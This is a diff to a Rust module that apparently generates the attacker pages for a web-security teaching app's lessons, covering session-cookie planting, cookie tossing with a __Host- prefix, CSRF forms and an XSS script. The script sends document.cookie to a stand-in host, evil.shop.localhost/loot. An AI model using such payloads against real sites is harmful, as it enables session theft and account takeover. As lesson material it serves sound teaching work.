@@ -6,17 +6,31 @@ use super::topics::Attack;
 /// The text of the post that the form of lesson 13 sends; its scenario says the same.
 pub(super) const POST: &str = "Buy your watches from Mallory!";
 
-/// The values of `Set-Cookie` in the answer to `POST /toss`. A browser that takes the first one has
-/// two cookies of that name for the shop. It has to refuse the second one, since a name that begins
-/// so allows no `Domain` (RFC 6265bis, section 4.1.3.2).
-pub(super) const TOSSED: [&str; 2] = [
-    "session_id=x; Domain=shop.localhost; Path=/",
-    "__Host-session_id=x; Domain=shop.localhost; Path=/; Secure",
-];
-
 /// The value of `Set-Cookie` in the answer to `POST /plant`: this session ID becomes the browser's.
-pub(super) fn planted(value: &str) -> String {
-    format!("session_id={value}; Path=/; HttpOnly; SameSite=Lax")
+pub(super) fn planted(name: &str, value: &str) -> String {
+    format!(
+        "{name}={value}; Path=/; HttpOnly; SameSite=Lax{}",
+        secure(name)
+    )
+}
+
+/// The value of `Set-Cookie` in the answer to `POST /toss`. A browser that takes it has two cookies
+/// of that name for the shop. It has to refuse one whose name begins with `__Host-`, since that
+/// allows no `Domain` (RFC 6265bis, section 4.1.3.2).
+pub(super) fn tossed(name: &str, value: &str) -> String {
+    format!(
+        "{name}={value}; Domain=shop.localhost; Path=/{}",
+        secure(name)
+    )
+}
+
+/// The attribute without which a browser refuses a name with a prefix.
+fn secure(name: &str) -> &'static str {
+    if name.starts_with("__") {
+        "; Secure"
+    } else {
+        ""
+    }
 }
 
 /// The HTML of an attack on the lesson at this port: a form with this word on its button, or a
@@ -35,16 +49,19 @@ pub(super) fn html(attack: Attack, button: &str, own_port: u16, lesson_port: u16
              <button>{button}</button>\n</form>"
         ),
         Attack::Script => format!(
-            "<script>fetch(\"http://evil.shop.localhost:{own_port}/loot?\" + document.cookie)</script>"
+            "<script>if (document.cookie.includes(\"session_id\")) \
+             fetch(\"http://evil.shop.localhost:{own_port}/loot?\" + document.cookie); \
+             else fetch(\"/board\", {{ method: \"POST\", \
+             body: new URLSearchParams({{ text: \"bob is the best!\" }}) }})</script>"
         ),
     }
 }
 
-/// The values of `Set-Cookie` that an attack is answered with; `shown` stands for the session ID.
-pub(super) fn answers(attack: Attack, shown: &str) -> Vec<String> {
+/// The value of `Set-Cookie` that an attack is answered with; `shown` stands for the session ID.
+pub(super) fn answer(attack: Attack, name: &str, shown: &str) -> Option<String> {
     match attack {
-        Attack::Plant => vec![planted(shown)],
-        Attack::Toss => TOSSED.map(str::to_owned).into(),
-        Attack::Note | Attack::Board | Attack::Script => Vec::new(),
+        Attack::Plant => Some(planted(name, shown)),
+        Attack::Toss => Some(tossed(name, shown)),
+        Attack::Note | Attack::Board | Attack::Script => None,
     }
 }
